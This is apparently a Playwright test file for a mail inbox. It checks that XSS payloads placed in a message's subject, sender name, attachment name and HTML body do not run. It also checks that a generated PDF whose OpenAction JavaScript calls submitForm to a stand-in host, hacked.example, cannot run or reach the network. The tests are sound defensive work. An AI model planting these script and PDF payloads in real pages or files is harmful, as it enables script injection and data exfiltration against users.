import { send } from '../support/mail.ts';
import { expect, goto, test } from '../support/app.ts';
import { start } from '../support/server.ts';
import { Story } from '../support/story.ts';

const SCRIPT = '<script>window.hacked = true</script><img src=x onerror="parent.hacked = true">';

test('a script in a subject, a name, a file name and an HTML body runs nowhere', async ({ page }) => {
  const server = await start('practice');
  const story = new Story(page, server.base, 'en');
  await story.setUp(server.setupLink);
  const mail = `From: "${SCRIPT.replaceAll('"', '\\"')}" <x@example.org>
Subject: ${SCRIPT}
Message-ID: <1@example.org>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary=b

--b
Content-Type: text/html; charset=utf-8

<p>Hello ${SCRIPT} <a href="javascript:window.hacked=true">link</a></p><svg onload="parent.hacked=true"></svg>
--b
Content-Type: application/pdf
Content-Disposition: attachment; filename="${SCRIPT.replaceAll('"', "'")}.pdf"

x
--b--
`;
  await send(server.smtpPort, 'x@example.org', 'acme-jobs@postroom.localhost', mail);
  await goto(page, `${server.base}/recruiting/unassigned`);
  await page.locator('.message-row').first().click();
  await expect(page.locator('.reading h1')).toContainText('<script>');
  // Drawn by the server, too: there the title is written into the document.
  await page.reload();
  await expect(page.locator('.reading h1')).toContainText('<script>');
  await expect(page.frameLocator('iframe.mail').locator('p').first()).toContainText('Hello');
  const framed = await (await page.request.get(`${page.url()}/html?images=0`)).text();
  expect(framed).toContain('Hello');
  expect(framed).not.toMatch(/<script|<svg|onerror|onload|javascript:/i);
  expect(await page.evaluate(() => 'hacked' in window)).toBe(false);
  await server.stop();
});

/** A page that says this, with a script that runs when it is opened, and a link. */
function pdf(words: string): string {
  const text = `BT /F1 24 Tf 20 100 Td (${words}) Tj ET`;
  const parts = [
    '<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert\\("hacked"\\); this.submitForm\\("http://hacked.example/"\\);) >> >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
    `<< /Length ${text.length} >>\nstream\n${text}\nendstream`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
  ];
  let out = '%PDF-1.4\n';
  const places = parts.map((part, n) => {
    const place = out.length;
    out += `${n + 1} 0 obj\n${part}\nendobj\n`;
    return `${String(place).padStart(10, '0')} 00000 n \n`;
  });
  return `${out}xref\n0 6\n0000000000 65535 f \n${places.join('')}trailer << /Size 6 /Root 1 0 R >>\nstartxref\n${out.length}\n%%EOF\n`;
}

test('a PDF is shown beside the message, and nothing in it runs or leaves', async ({ page, context }) => {
  const server = await start('practice');
  const story = new Story(page, server.base, 'en');
  await story.setUp(server.setupLink);
  const mail = `From: x@example.org
Subject: CV
Message-ID: <1@example.org>
MIME-Version: 1.0
Content-Type: application/pdf
Content-Disposition: attachment; filename="cv.pdf"
Content-Transfer-Encoding: base64

${Buffer.from(pdf('Hello Carla')).toString('base64')}
`;
  await send(server.smtpPort, 'x@example.org', 'acme-jobs@postroom.localhost', mail);
  await goto(page, `${server.base}/recruiting/unassigned`);
  await page.locator('.message-row').first().click();
  const seen: string[] = [];
  context.on('request', (request) => seen.push(request.url()));
  context.on('dialog', (dialog) => seen.push(dialog.message()));
  const opening = page.waitForEvent('popup');
  await page.getByRole('link', { name: story.words('attachments').preview_of.replace('{name}', 'cv.pdf') }).click();
  const shown = await opening;
  await shown.waitForLoadState();
  const facts = () => ({ is: document.contentType, opener: window.opener as unknown });
  expect(await shown.evaluate(facts)).toEqual({ is: 'application/pdf', opener: null });
  // Its viewer draws the page: black letters on white.
  await expect(async () => {
    const bytes = (await shown.screenshot()).toString('base64');
    expect(await page.evaluate(shades, bytes)).toEqual({ hasWhite: true, hasBlack: true });
  }).toPass();
  // The viewer is made of the browser's own files.
  expect(seen.filter((what) => !what.startsWith(server.base) && !/^chrome(-extension)?:/.test(what))).toEqual([]);
  await server.stop();
});

/** What a picture has much of; runs in the browser. */
async function shades(base64: string): Promise<{ hasWhite: boolean; hasBlack: boolean }> {
  const bytes = Uint8Array.from(atob(base64), (letter) => letter.charCodeAt(0));
  const bitmap = await createImageBitmap(new Blob([bytes], { type: 'image/png' }));
  const drawing = new OffscreenCanvas(bitmap.width, bitmap.height).getContext('2d');
  drawing?.drawImage(bitmap, 0, 0);
  const { data } = drawing!.getImageData(0, 0, bitmap.width, bitmap.height);
  let white = 0;
  let black = 0;
  for (let at = 0; at < data.length; at += 4) {
    if (data[at] > 250) white += 1;
    if (data[at] < 10) black += 1;
  }
  return { hasWhite: white > 10_000, hasBlack: black > 100 };
}
